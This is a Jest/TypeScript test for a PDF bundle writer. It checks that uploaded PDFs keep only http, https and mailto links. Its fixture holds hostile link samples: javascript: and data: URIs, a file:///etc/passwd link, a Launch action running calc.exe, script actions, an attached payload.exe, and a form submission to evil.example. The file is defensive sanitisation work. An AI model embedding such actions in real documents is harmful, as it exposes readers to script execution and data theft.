import fs from 'node:fs';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
  type PDFObject,
} from '@cantoo/pdf-lib';
import { createBundleWriter } from '@/lib/bundle/pdf-writer';
import { isSafeUri } from '@/lib/bundle/pdf-writer/safe-links';
import { qpdfCheck, readBack, removeTempFiles, tempPath } from './writer-fixtures';

// Links and actions in an uploaded PDF, copied into a bundle: only URI actions to http, https and
// mailto addresses survive. Everything else a reader could run or open (script, a local file, a
// program, another document, an attached file) is left behind. Checked by reading the output back.

afterAll(removeTempFiles);

/** One page carrying every kind of link and action an uploaded PDF might hold. */
async function hostilePdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText('Exhibit with links', { x: 50, y: 780, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  const { context } = doc;
  let y = 700;
  const rect = () => [50, (y -= 30), 300, y + 20];
  const link = (action: Record<string, PDFObject | string>) =>
    context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect(), A: context.obj(action) });
  const uri = (target: string) => link({ S: 'URI', URI: PDFString.of(target) });
  const annots: PDFObject[] = [
    uri('https://example.org/good'),
    uri('mailto:appeals@example.org'),
    uri('javascript:app.alert(1)'),
    uri('JavaScript:app.alert(2)'),
    uri('file:///etc/passwd'),
    uri(' https://example.org/leading-space'),
    uri('../relative/path.pdf'),
    uri('data:text/html,<script>alert(3)</script>'),
    link({ S: 'URI', URI: PDFHexString.fromText('javascript:hex()') }), // UTF-16 hex: not ASCII, not safe
    link({ S: 'URI', URI: PDFHexString.of(Buffer.from('javascript:alert(4)', 'latin1').toString('hex')) }),
    link({
      S: 'Launch',
      F: PDFString.of('C:\\Windows\\System32\\calc.exe'),
      Win: context.obj({ F: PDFString.of('calc.exe') }),
    }),
    link({ S: 'GoToR', F: PDFString.of('other.pdf'), D: context.obj([0, 'Fit']) }),
    link({ S: 'JavaScript', JS: PDFString.of('app.alert(5)') }),
    link({ S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/collect') }) }),
    // A good link whose action chains on to script: the link stays, the chain and the stray /JS go.
    link({
      S: 'URI',
      URI: PDFString.of('https://example.org/chained'),
      JS: PDFString.of('app.alert(6)'),
      Next: context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(7)') }),
    }),
    // Not links: a form field with a script action and an attached program.
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      Rect: rect(),
      FT: 'Btn',
      T: PDFString.of('button'),
      A: context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(8)') }),
    }),
    context.obj({
      Type: 'Annot',
      Subtype: 'FileAttachment',
      Rect: rect(),
      FS: context.obj({ Type: 'Filespec', F: PDFString.of('payload.exe') }),
    }),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annots.map((a) => context.register(a as PDFDict))));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

test('only http, https and mailto links reach the bundle; script, files, programs and other documents do not', async () => {
  const input = await hostilePdf();
  // The fixture really holds what the writer must remove (else the test below could not fail).
  expect(input.toString('latin1')).toMatch(
    /javascript:app\.alert\(1\)[\s\S]*\/Launch[\s\S]*\/GoToR[\s\S]*\/JavaScript[\s\S]*FileAttachment/,
  );

  const file = tempPath('pdf');
  const out = fs.createWriteStream(file);
  const closed = new Promise<void>((resolve, reject) => out.on('close', () => resolve()).on('error', reject));
  const writer = createBundleWriter(out, { info: { title: 'Links', author: 'Test', subject: 'Links' } });
  await writer.append(input);
  await writer.finish({ outline: [] });
  out.end();
  await closed;

  expect(qpdfCheck(file).ok).toBe(true);
  const bytes = fs.readFileSync(file);
  const back = await readBack(bytes);
  expect(back.links[0]!.map((l) => l.uri)).toEqual([
    'https://example.org/good',
    'mailto:appeals@example.org',
    'https://example.org/chained',
  ]);

  // The bundle's objects are written uncompressed: nothing of the removed actions is anywhere in it.
  const text = bytes.toString('latin1');
  for (const gone of [
    'javascript:',
    'JavaScript:',
    'file:',
    'data:',
    'relative',
    'leading-space',
    '/Launch',
    '/GoToR',
    '/JavaScript',
    '/JS',
    '/SubmitForm',
    'calc.exe',
    'other.pdf',
    'payload.exe',
    '/FileAttachment',
    '/Next',
    'evil.example',
  ]) {
    expect({ gone, found: text.includes(gone) }).toEqual({ gone, found: false });
  }
  // The form field is still drawn (its appearance is content), without its action.
  const doc = await PDFDocument.load(bytes);
  const annots = doc
    .getPages()[0]!
    .node.lookup(PDFName.of('Annots'), PDFArray)
    .asArray()
    .map((a) => doc.context.lookup(a, PDFDict));
  const widget = annots.find((a) => a.get(PDFName.of('Subtype')) === PDFName.of('Widget'));
  expect(widget).toBeDefined();
  expect(widget!.has(PDFName.of('A'))).toBe(false);
});

test.each([
  ['https://example.org/a?b=c#d', true],
  ['HTTP://EXAMPLE.ORG', true],
  ['mailto:someone@example.org?subject=Appeal', true],
  ['https:example.org', false], // no authority: some readers resolve it as a relative path
  ['http://exa mple.org', false],
  ['https://example.org/\n', false],
  ['javascript:alert(1)', false],
  ['jav\tascript:alert(1)', false],
  ['file:///C:/x', false],
  ['ftp://example.org', false],
  ['//example.org', false],
  ['', false],
])('isSafeUri(%j) is %s', (uri, safe) => {
  expect(isSafeUri(uri)).toBe(safe);
});
